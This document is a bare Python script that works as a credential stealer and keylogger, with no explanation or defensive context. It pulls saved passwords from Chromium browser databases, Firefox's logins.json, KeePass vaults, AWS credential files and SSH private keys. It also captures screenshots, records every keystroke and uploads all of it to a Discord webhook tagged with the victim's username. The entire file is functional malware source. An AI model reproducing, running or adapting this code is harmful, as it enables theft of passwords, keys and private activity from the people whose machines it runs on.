import glob, io, os, shutil, sqlite3, tempfile
import httpx
from PIL import ImageGrab
from pynput import keyboard

HOOK = "https://discord.com/api/webhooks/1«d17»/«u68»"
LOCAL, ROAM = os.getenv("LOCALAPPDATA", ""), os.getenv("APPDATA", "")
found, keys = {}, []


def typed(k):
    keys.append(str(k))
    if len(keys) > 400:
        post("keys.txt", " ".join(keys).encode())
        keys.clear()


def post(name, blob):
    httpx.post(HOOK, files={"file": (name, blob)}, data={"content": os.getlogin()})


def browsers():
    for db in glob.glob(LOCAL + r"\*\*\User Data\*\Login Data"):
        copy = shutil.copy(db, tempfile.gettempdir())
        con = sqlite3.connect(copy)
        found[db] = con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()


def firefox():
    for path in glob.glob(ROAM + r"\Mozilla\Firefox\Profiles\*\logins.json"):
        with open(path, "rb") as fh:
            post("ff.json", fh.read())


def vaults():
    home = os.path.expanduser("~")
    for pattern in ("*.kdbx", ".aws/credentials", ".ssh/id_*"):
        for path in glob.glob(os.path.join(home, pattern)):
            post(os.path.basename(path), open(path, "rb").read())


def screen():
    buffer = io.BytesIO()
    ImageGrab.grab(all_screens=True).save(buffer, "PNG")
    post("s.png", buffer.getvalue())


for job in (browsers, firefox, vaults, screen):
    try:
        job()
    except Exception:
        pass
post("logins.txt", repr(found).encode())
with keyboard.Listener(on_press=typed) as listener:
    listener.join()
